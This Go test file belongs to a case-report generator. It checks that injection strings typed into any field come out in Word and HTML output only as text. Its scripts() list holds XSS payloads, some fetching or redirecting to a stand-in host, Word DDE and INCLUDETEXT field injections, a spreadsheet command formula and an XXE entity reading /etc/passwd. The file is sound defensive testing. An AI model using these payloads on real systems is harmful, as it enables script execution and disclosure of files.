package report_test

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"io"
	"slices"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"

	"waymark/app/handover/paper"
	"waymark/app/handover/report"
	"waymark/app/notebook"
)

// scripts are texts that would run, load, or begin something in a file if they were more than text in it.
func scripts() []string {
	var all []string
	for _, js := range []string{"alert(1)", "document.title='x'", "fetch('//e.example')", "location='//e.example'", "import('//e.example')"} {
		all = append(all, "<script>"+js+"</script>", "<img src=x onerror="+js+">", "<svg/onload="+js+">", `"><script>`+js+"</script>",
			"' onmouseover='"+js, "javascript:"+js, "<iframe srcdoc='<script>"+js+"</script>'>", "</w:t></w:r><w:r><w:instrText>"+js+"</w:instrText></w:r>",
			"</td><td><b onclick="+js+">", "<a href=\"javascript:"+js+"\">x</a>", "</style><script>"+js+"</script>", "<!--><script>"+js+"</script>")
	}
	return append(all, `</w:t></w:r></w:p><w:p><w:fldSimple w:instr="DDEAUTO c:\\x"/></w:p>`, `<w:hyperlink r:id="rId1"/>`, `<w:altChunk r:id="rId9"/>`,
		`INCLUDETEXT "//e.example"`, "]]><x/>", "&lt;script&gt;", "&#60;script&#62;", "=HYPERLINK(\"//e.example\")", "=cmd|' /C calc'!A0", "{ DDEAUTO c:\\x }", "</title></head>",
		"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;")
}

// harmless is a text of the same length, with the same words and lines, in which nothing but letters and figures stands.
func harmless(s string) string {
	return strings.Map(func(r rune) rune {
		if r == ' ' || r == '\n' || unicode.IsLetter(r) || unicode.IsDigit(r) {
			return r
		}
		return 'x'
	}, s)
}

// filled is a case with a text in every field of every kind of entry, and in everything else that can be typed.
func filled(t testing.TB, id, text string) report.Source {
	t.Helper()
	m := begin(t, board(t, id))
	start := m.c.Start()
	start.Adult, start.Keeper = text, notebook.Party{Role: text, Agency: text}
	c, err := notebook.Begin(start)
	if err != nil {
		t.Fatal(err)
	}
	m.c = c
	for k := notebook.Arose; k.Valid(); k++ {
		e := full(k, text)
		if k == notebook.EditionStayed {
			e.To.Board = id
		}
		if k != notebook.BoardChanged && k != notebook.EditionMoved { // after those another policy counts: see moved
			m.add("2026-11-20", "", e)
		}
	}
	correction := full(notebook.Contact, text)
	correction.Amends, correction.Why = 2, text
	m.add("2026-11-21", "", correction)
	s := m.source("2026-12-03")
	s.Typed = map[string]string{}
	for _, section := range m.p.Sections {
		for _, b := range section.Blocks {
			if b.Form != nil {
				for _, blank := range report.FillForm(s, b.Form, report.Full).Blanks {
					s.Typed[blank.Label] = text
				}
			}
		}
	}
	s.Names = &notebook.Identity{People: []notebook.Person{{Called: text, Name: text, Note: text}}}
	return s
}

// moved is the case under a board and an edition that nobody has.
func moved(t testing.TB, s report.Source, text string) report.Source {
	t.Helper()
	m := &maker{t, s.Case, s.Look.Policy}
	m.add("2026-11-22", "", full(notebook.BoardChanged, text))
	m.p = nil
	return m.source("2026-12-03")
}

// full is an entry of a kind with a text in every field that the kind takes.
func full(k notebook.Kind, text string) notebook.Entry {
	e := notebook.Entry{Kind: k}
	for f, to := range map[notebook.Field]*string{
		notebook.FieldWho: &e.Who.Role, notebook.FieldWhoAgency: &e.Who.Agency, notebook.FieldConcern: &e.Concern, notebook.FieldEvidence: &e.Evidence,
		notebook.FieldRisk: &e.Risk, notebook.FieldSaid: &e.Said, notebook.FieldAsked: &e.Asked, notebook.FieldReply: &e.Reply, notebook.FieldOwner: &e.Owner.Role,
		notebook.FieldOwnerAgency: &e.Owner.Agency, notebook.FieldText: &e.Text, notebook.FieldReason: &e.Reason, notebook.FieldForm: &e.Form,
		notebook.FieldQuestion: &e.Question, notebook.FieldToBoard: &e.To.Board, notebook.FieldToPack: &e.To.Pack,
	} {
		if k.Takes(f) {
			*to = text
		}
	}
	if k.Takes(notebook.FieldStage) {
		e.Stage = 2
	}
	if k.Takes(notebook.FieldAnswer) {
		e.Answer = notebook.Yes
	}
	if k.Takes(notebook.FieldAction) {
		e.Action = 11
	}
	if k.Takes(notebook.FieldDue) {
		e.Due.Year, e.Due.Month, e.Due.Day = 2026, 12, 1
	}
	if k == notebook.Withdrawal {
		e.Amends, e.Why = 1, text
	}
	return e
}

// papersOf is everything that can be made of a case.
func papersOf(t testing.TB, s report.Source, text string) map[string]paper.Paper {
	t.Helper()
	all := map[string]paper.Paper{"moved": report.Brief(moved(t, s, text), report.Full), "full": report.Brief(s, report.Full), "need": report.Brief(s, report.NeedToKnow), "confirmation": report.Confirmation(s),
		"learning": report.LearningCopy(s, []string{text})}
	for _, section := range s.Look.Policy.Sections {
		for _, b := range section.Blocks {
			if b.Form != nil {
				all["form "+b.Form.ID] = report.FillForm(s, b.Form, report.Full).Paper
			}
		}
	}
	return all
}

// TestNothingTypedIsMoreThanTextInAFile: whatever stands in every field of a case, a file is built of the same elements, fields and
// relationships as one whose texts are letters only. Both readers are not ours.
func TestNothingTypedIsMoreThanTextInAFile(t *testing.T) {
	texts := scripts()
	if len(texts) < 60 {
		t.Fatalf("%d texts, want 60", len(texts))
	}
	made := 0
	for _, id := range []string{"swindon", "south-gloucestershire", "northamptonshire"} {
		for _, text := range texts {
			tame := papersOf(t, filled(t, id, harmless(text)), harmless(text))
			for name, p := range papersOf(t, filled(t, id, text), text) {
				made++
				for _, f := range []paper.Format{paper.Word, paper.HTML} {
					got, want := built(t, p, f), built(t, tame[name], f)
					if !slices.Equal(got, want) {
						t.Errorf("%s, %s, %s: %q makes something else of the file than letters do", id, name, f.Extension(), text)
					}
				}
				if !strings.Contains(textOf(t, p), text) {
					t.Errorf("%s, %s: %q is not there to be read", id, name, text)
				}
			}
		}
	}
	if made < len(texts)*15 {
		t.Errorf("only %d papers", made)
	}
}

// built is what a file is built of, without its texts: parts, elements and their attributes in order.
func built(t *testing.T, p paper.Paper, f paper.Format) []string {
	t.Helper()
	file, _, err := paper.Write(p, f)
	if err != nil {
		t.Fatal(err)
	}
	if f == paper.HTML {
		return htmlTags(t, file)
	}
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, "part "+part.Name)
		for d := xml.NewDecoder(r); ; {
			token, err := d.Token()
			if err == io.EOF {
				break
			} else if err != nil {
				t.Fatalf("%s: %v", part.Name, err)
			}
			switch token := token.(type) {
			case xml.StartElement:
				out = append(out, token.Name.Local)
				for _, a := range token.Attr {
					out = append(out, "@"+a.Name.Local+"="+a.Value)
				}
			case xml.EndElement:
				out = append(out, "/"+token.Name.Local)
			case xml.Comment, xml.Directive:
				t.Fatalf("%s: a comment or a directive", part.Name)
			}
		}
	}
	return out
}

// htmlTags are all tags with their attributes, as golang.org/x/net/html reads the file.
func htmlTags(t *testing.T, file []byte) []string {
	t.Helper()
	var out []string
	for z := html.NewTokenizer(bytes.NewReader(file)); ; {
		switch z.Next() {
		case html.ErrorToken:
			return out
		case html.CommentToken:
			t.Fatal("a comment in the file")
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
			token := z.Token()
			out = append(out, token.Type.String()+token.Data)
			for _, a := range token.Attr {
				out = append(out, "@"+a.Key+"="+a.Val)
			}
		}
	}
}

// textOf is the text that a reader of the HTML file sees.
func textOf(t *testing.T, p paper.Paper) string {
	t.Helper()
	file, _, err := paper.Write(p, paper.HTML)
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	for z := html.NewTokenizer(bytes.NewReader(file)); ; {
		switch z.Next() {
		case html.ErrorToken:
			return out.String()
		case html.TextToken:
			out.WriteString(z.Token().Data)
		}
	}
}
